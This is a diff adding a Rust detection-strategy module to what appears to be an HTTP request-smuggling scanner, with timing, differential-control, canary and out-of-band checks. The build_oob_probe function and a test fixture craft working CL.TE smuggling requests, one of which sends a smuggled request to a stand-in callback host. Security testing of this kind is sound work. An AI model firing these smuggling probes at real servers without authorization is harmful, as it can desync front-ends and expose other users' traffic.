@@ -0,0 +1,470 @@
+//! Detection strategies.
+//!
+//! Each way of spotting a desync — response timing, differential comparison
+//! against a smuggling-stripped control, follow-up canaries, out-of-band
+//! callbacks — implements [`DetectionStrategy`]. A check runs the strategies
+//! selected with `--detect`, and every strategy contributes evidence to the
+//! final verdict:
+//!
+//! - **screening** strategies (`examine`) test each payload and raise a candidate;
+//! - **corroborating** strategies (`corroborate`) add evidence for or against a
+//!   candidate, and may refute it as a false positive;
+//! - **sweeping** strategies (`sweep`) run once when no payload raised a
+//!   candidate, using the first TE-carrying payload of the check.
+//!
+//! A strategy may screen only some checks: the canary strategy plants every
+//! `head` payload, since HEAD body queueing is cheap to observe directly.
+
+use std::future::Future;
+use std::pin::Pin;
+
+use clap::ValueEnum;
+use colored::*;
+
+use super::{
+    BaselineMeasurement, ControlObservation, FollowupObservation, PayloadCheckParams,
+    ResponseHeaderFingerprint, VulnerabilityInfo, build_chunked_control_request,
+    build_control_request, check_single_payload, confirm_vulnerability,
+    control_indicates_false_positive, median_duration, observe_control,
+    observe_followup_divergence, payload_declares_chunked, payload_eligible_for_control,
+    probe_head_body_queue, probe_second_request_desync,
+};
+use crate::error::Result;
+use crate::http::send_request;
+
+/// Detection methods selectable with `--detect`.
+#[derive(Debug, Clone, Copy, PartialEq, Eq, ValueEnum)]
+pub enum DetectionMethod {
+    /// Delayed or timed-out attack responses (408/504, timing over the
+    /// baseline), and bodies cut short of or past their Content-Length
+    Timing,
+    /// Compare findings against a smuggling-stripped control and follow-up probes
+    Differential,
+    /// Plant a payload and watch fresh follow-up requests for corruption
+    Canary,
+    /// Smuggle a request to an out-of-band host (`--oob-host`) for manual correlation
+    Oob,
+}
+
+impl DetectionMethod {
+    /// Name as accepted by `--detect`.
+    pub fn name(self) -> &'static str {
+        match self {
+            DetectionMethod::Timing => "timing",
+            DetectionMethod::Differential => "differential",
+            DetectionMethod::Canary => "canary",
+            DetectionMethod::Oob => "oob",
+        }
+    }
+}
+
+/// Methods used when `--detect` is not given.
+pub const DEFAULT_DETECTION: &[DetectionMethod] = &[
+    DetectionMethod::Timing,
+    DetectionMethod::Differential,
+    DetectionMethod::Canary,
+];
+
+/// Future returned by strategy hooks.
+pub(super) type StrategyFuture<'a, T> = Pin<Box<dyn Future<Output = T> + Send + 'a>>;
+
+/// The payload under test plus the target context every strategy may need.
+pub(super) struct ProbeContext<'a> {
+    pub(super) payload: &'a PayloadCheckParams<'a>,
+    pub(super) check_name: &'a str,
+    pub(super) path: &'a str,
+    pub(super) baseline: &'a BaselineMeasurement,
+    pub(super) oob_host: Option<&'a str>,
+}
+
+/// Evidence gathered about one finding (or, after a sweep, about the check).
+#[derive(Default)]
+pub(super) struct Evidence {
+    /// Smuggling-stripped control response
+    pub(super) control: Option<ControlObservation>,
+    /// Response to a well-formed chunked sibling of the attack
+    pub(super) chunked_control: Option<ControlObservation>,
+    /// Follow-up probes sent after the attack
+    pub(super) followup: Option<FollowupObservation>,
+    /// Some strategy judged the candidate to be a false positive
+    pub(super) refuted: bool,
+    /// Notes about the run rather than the vulnerability (e.g. OOB probe hosts)
+    pub(super) diagnostics: Vec<String>,
+}
+
+/// A way of detecting request smuggling. Hooks a strategy does not take part
+/// in keep their default no-op implementation.
+pub(super) trait DetectionStrategy: Send + Sync {
+    /// The `--detect` method this strategy implements.
+    fn method(&self) -> DetectionMethod;
+
+    /// Whether [`examine`](Self::examine) screens the payloads of `check_name`.
+    fn screens(&self, _check_name: &str) -> bool {
+        false
+    }
+
+    /// Test one payload. `Ok(Some)` is a reproduced anomaly that becomes a
+    /// finding candidate.
+    fn examine<'a>(
+        &'a self,
+        _ctx: &'a ProbeContext<'a>,
+    ) -> StrategyFuture<'a, Result<Option<VulnerabilityInfo>>> {
+        Box::pin(async { Ok(None) })
+    }
+
+    /// Add evidence about a candidate raised by a screening strategy.
+    fn corroborate<'a>(
+        &'a self,
+        _ctx: &'a ProbeContext<'a>,
+        _candidate: &'a VulnerabilityInfo,
+        _evidence: &'a mut Evidence,
+    ) -> StrategyFuture<'a, ()> {
+        Box::pin(async {})
+    }
+
+    /// Look for a finding after no payload raised a candidate.
+    fn sweep<'a>(
+        &'a self,
+        _ctx: &'a ProbeContext<'a>,
+        _evidence: &'a mut Evidence,
+    ) -> StrategyFuture<'a, Option<VulnerabilityInfo>> {
+        Box::pin(async { None })
+    }
+}
+
+/// Instantiate the strategies for the selected methods, in a stable order
+/// (duplicates are ignored).
+pub(super) fn build_strategies(methods: &[DetectionMethod]) -> Vec<Box<dyn DetectionStrategy>> {
+    let mut strategies: Vec<Box<dyn DetectionStrategy>> = Vec::new();
+    for method in [
+        DetectionMethod::Timing,
+        DetectionMethod::Differential,
+        DetectionMethod::Canary,
+        DetectionMethod::Oob,
+    ] {
+        if !methods.contains(&method) {
+            continue;
+        }
+        strategies.push(match method {
+            DetectionMethod::Timing => Box::new(TimingStrategy),
+            DetectionMethod::Differential => Box::new(DifferentialStrategy),
+            DetectionMethod::Canary => Box::new(CanaryStrategy),
+            DetectionMethod::Oob => Box::new(OobStrategy),
+        });
+    }
+    strategies
+}
+
+/// 408/504 statuses, timing anomalies and Content-Length mismatches,
+/// confirmed by retries.
+struct TimingStrategy;
+
+impl DetectionStrategy for TimingStrategy {
+    fn method(&self) -> DetectionMethod {
+        DetectionMethod::Timing
+    }
+
+    fn screens(&self, _check_name: &str) -> bool {
+        true
+    }
+
+    fn examine<'a>(
+        &'a self,
+        ctx: &'a ProbeContext<'a>,
+    ) -> StrategyFuture<'a, Result<Option<VulnerabilityInfo>>> {
+        Box::pin(async move {
+            let Some(mut info) = check_single_payload(ctx.payload).await? else {
+                return Ok(None);
+            };
+            let confirmation = confirm_vulnerability(ctx.payload, &info).await;
+            if !confirmation.confirmed {
+                return Ok(None);
+            }
+            // Use the median of (initial + retry) durations to dampen the
+            // influence of a single transient spike on confidence.
+            let mut all_durations = Vec::with_capacity(confirmation.durations.len() + 1);
+            all_durations.push(info.duration);
+            all_durations.extend(confirmation.durations);
+            info.duration = median_duration(&mut all_durations);
+            Ok(Some(info))
+        })
+    }
+}
+
+/// Control requests and follow-up probes; refutes candidates whose
+/// smuggling-stripped control, or benign chunked control, behaves like the
+/// attack unless the follow-ups show desync.
+struct DifferentialStrategy;
+
+impl DetectionStrategy for DifferentialStrategy {
+    fn method(&self) -> DetectionMethod {
+        DetectionMethod::Differential
+    }
+
+    fn corroborate<'a>(
+        &'a self,
+        ctx: &'a ProbeContext<'a>,
+        candidate: &'a VulnerabilityInfo,
+        evidence: &'a mut Evidence,
+    ) -> StrategyFuture<'a, ()> {
+        Box::pin(async move {
+            // Stripping isn't meaningful for H2C/H2 or non-TE payloads.
+            if payload_eligible_for_control(ctx.payload.attack_request) {
+                let control_request = build_control_request(ctx.payload.attack_request);
+                evidence.control = observe_control(ctx.payload, &control_request).await;
+            }
+
+            // Follow-up divergence is a strong escape signal that overrides
+            // the control FP rule.
+            let followup = observe_followup_divergence(ctx.payload, ctx.path, ctx.baseline).await;
+            if let Some(ref control) = evidence.control
+                && control_indicates_false_positive(candidate, control, Some(&followup))
+            {
+                evidence.refuted = true;
+            }
+
+            // A target that is slow or failing on any chunked POST shows the
+            // same anomaly on a correctly framed chunked request.
+            if !evidence.refuted
+                && payload_eligible_for_control(ctx.payload.attack_request)
+                && payload_declares_chunked(ctx.payload.attack_request)
+            {
+                let chunked = build_chunked_control_request(ctx.payload.attack_request);
+                evidence.chunked_control = observe_control(ctx.payload, &chunked).await;
+                if let Some(ref control) = evidence.chunked_control
+                    && control_indicates_false_positive(candidate, control, Some(&followup))
+                {
+                    evidence.refuted = true;
+                    if ctx.payload.verbose {
+                        println!(
+                            "  {} {} benign chunked control reproduced the anomaly (status={:?}, control={}ms)",
+                            "[*]".cyan(),
+                            ctx.check_name,
+                            control.status_code,
+                            control.duration.as_millis(),
+                        );
+                    }
+                }
+            }
+            evidence.followup = Some(followup);
+        })
+    }
+}
+
+/// Second-request desync: plant a payload, then look for corrupted responses
+/// to fresh follow-up requests. On the `head` check every payload is planted,
+/// with its follow-up pipelined behind it.
+struct CanaryStrategy;
+
+impl DetectionStrategy for CanaryStrategy {
+    fn method(&self) -> DetectionMethod {
+        DetectionMethod::Canary
+    }
+
+    fn screens(&self, check_name: &str) -> bool {
+        check_name == "head"
+    }
+
+    fn examine<'a>(
+        &'a self,
+        ctx: &'a ProbeContext<'a>,
+    ) -> StrategyFuture<'a, Result<Option<VulnerabilityInfo>>> {
+        Box::pin(async move {
+            let info = probe_head_body_queue(ctx.payload, ctx.path, ctx.baseline).await;
+            if ctx.payload.verbose
+                && let Some(ref info) = info
+            {
+                println!(
+                    "  {} {} HEAD body queued: follow-up answered with {}",
+                    "[+]".green(),
+                    ctx.check_name,
+                    info.status,
+                );
+            }
+            Ok(info)
+        })
+    }
+
+    fn sweep<'a>(
+        &'a self,
+        ctx: &'a ProbeContext<'a>,
+        evidence: &'a mut Evidence,
+    ) -> StrategyFuture<'a, Option<VulnerabilityInfo>> {
+        Box::pin(async move {
+            let followup = probe_second_request_desync(ctx.payload, ctx.path, ctx.baseline).await?;
+            if ctx.payload.verbose {
+                println!(
+                    "  {} {} second-request desync detected: {}/{} follow-up probes diverged from baseline",
+                    "[+]".green(),
+                    ctx.check_name,
+                    followup.diverging,
+                    followup.total,
+                );
+            }
+            evidence.followup = Some(followup);
+            // The attack request itself carried no anomaly — synthesize a
+            // benign VulnerabilityInfo so the finding is reported as a
+            // medium-confidence second-request desync.
+            Some(VulnerabilityInfo {
+                status: ctx.baseline.status.clone(),
+                status_code: ctx.baseline.status_code,
+                duration: ctx.baseline.duration,
+                connect: ctx.baseline.connect,
+                body_length: ctx.baseline.body_length,
+                header_fingerprint: ResponseHeaderFingerprint::default(),
+                is_connection_timeout: false,
+                head_body_queued: false,
+                response_head: String::new(),
+                length_mismatch: None,
+                unsolicited: Vec::new(),
+                phases: None,
+            })
+        })
+    }
+}
+
+/// Smuggles a request addressed to a unique subdomain of `--oob-host`. The
+/// callback itself is observed in the user's interaction server, so the
+/// strategy only records which host to look for.
+struct OobStrategy;
+
+impl OobStrategy {
+    async fn send_probe(ctx: &ProbeContext<'_>, evidence: &mut Evidence) {
+        let Some(oob_host) = ctx.oob_host else {
+            return;
+        };
+        if !payload_eligible_for_control(ctx.payload.attack_request) {
+            return;
+        }
+        let callback = format!("{}-{}.{}", ctx.check_name, oob_token(), oob_host);
+        let probe = build_oob_probe(ctx.payload.attack_request, &callback);
+        let p = ctx.payload;
+        let _ = send_request(p.host, p.port, &probe, p.timeout, p.verbose, p.use_tls).await;
+        // A follow-up request lets a back-end that queued the smuggled prefix
+        // actually issue it.
+        let follow = format!(
+            "GET {} HTTP/1.1\r\nHost: {}\r\nConnection: close\r\n\r\n",
+            ctx.path, p.host
+        );
+        let _ = send_request(p.host, p.port, &follow, p.timeout, p.verbose, p.use_tls).await;
+        if p.verbose {
+            println!(
+                "  {} {} out-of-band probe sent; watch for interactions on {}",
+                "[*]".cyan(),
+                ctx.check_name,
+                callback
+            );
+        }
+        evidence
+            .diagnostics
+            .push(format!("oob_probe_sent:{}", callback));
+    }
+}
+
+impl DetectionStrategy for OobStrategy {
+    fn method(&self) -> DetectionMethod {
+        DetectionMethod::Oob
+    }
+
+    fn corroborate<'a>(
+        &'a self,
+        ctx: &'a ProbeContext<'a>,
+        _candidate: &'a VulnerabilityInfo,
+        evidence: &'a mut Evidence,
+    ) -> StrategyFuture<'a, ()> {
+        Box::pin(Self::send_probe(ctx, evidence))
+    }
+
+    fn sweep<'a>(
+        &'a self,
+        ctx: &'a ProbeContext<'a>,
+        evidence: &'a mut Evidence,
+    ) -> StrategyFuture<'a, Option<VulnerabilityInfo>> {
+        Box::pin(async move {
+            Self::send_probe(ctx, evidence).await;
+            None
+        })
+    }
+}
+
+/// Short unique token for OOB callback hosts.
+fn oob_token() -> String {
+    let nanos = std::time::SystemTime::now()
+        .duration_since(std::time::UNIX_EPOCH)
+        .map(|d| d.as_nanos())
+        .unwrap_or_default();
+    format!(
+        "{:08x}",
+        (nanos as u64) ^ ((nanos >> 64) as u64) ^ std::process::id() as u64
+    )
+    .chars()
+    .rev()
+    .take(8)
+    .collect()
+}
+
+/// Rewrite a TE-carrying payload into a CL.TE probe whose smuggled prefix is a
+/// request for `callback`: the front-end forwards the whole body by
+/// Content-Length, a back-end honouring chunked encoding stops at the `0`
+/// chunk and treats the rest as the start of the next request.
+pub(super) fn build_oob_probe(payload: &str, callback: &str) -> String {
+    let head = match payload.find("\r\n\r\n") {
+        Some(idx) => &payload[..idx],
+        None => payload,
+    };
+    let body = format!(
+        "0\r\n\r\nGET http://{cb}/ HTTP/1.1\r\nHost: {cb}\r\nX-Ignore: X",
+        cb = callback
+    );
+    let mut request = String::with_capacity(head.len() + body.len() + 32);
+    for line in head.split("\r\n") {
+        let name = line.split(':').next().unwrap_or("").trim();
+        if name.eq_ignore_ascii_case("content-length") {
+            continue;
+        }
+        request.push_str(line);
+        request.push_str("\r\n");
+    }
+    request.push_str(&format!("Content-Length: {}\r\n\r\n{}", body.len(), body));
+    request
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn build_strategies_orders_and_dedups() {
+        let strategies = build_strategies(&[
+            DetectionMethod::Canary,
+            DetectionMethod::Timing,
+            DetectionMethod::Canary,
+        ]);
+        let methods: Vec<_> = strategies.iter().map(|s| s.method()).collect();
+        assert_eq!(
+            methods,
+            vec![DetectionMethod::Timing, DetectionMethod::Canary]
+        );
+        assert!(strategies[0].screens("cl-te"));
+        assert!(!strategies[1].screens("cl-te"));
+        assert!(strategies[1].screens("head"));
+    }
+
+    #[test]
+    fn oob_probe_replaces_content_length_and_body() {
+        let payload = "POST / HTTP/1.1\r\nHost: t\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nG";
+        let probe = build_oob_probe(payload, "cl-te-abc.oob.example");
+        let (head, body) = probe.split_once("\r\n\r\n").unwrap();
+        assert!(head.contains("Transfer-Encoding: chunked"));
+        assert_eq!(head.matches("Content-Length").count(), 1);
+        assert!(head.ends_with(&format!("Content-Length: {}", body.len())));
+        assert!(body.starts_with("0\r\n\r\nGET http://cl-te-abc.oob.example/ HTTP/1.1"));
+    }
+
+    #[test]
+    fn oob_token_is_short_hex() {
+        let token = oob_token();
+        assert_eq!(token.len(), 8);
+        assert!(token.chars().all(|c| c.is_ascii_hexdigit()));
+    }
+}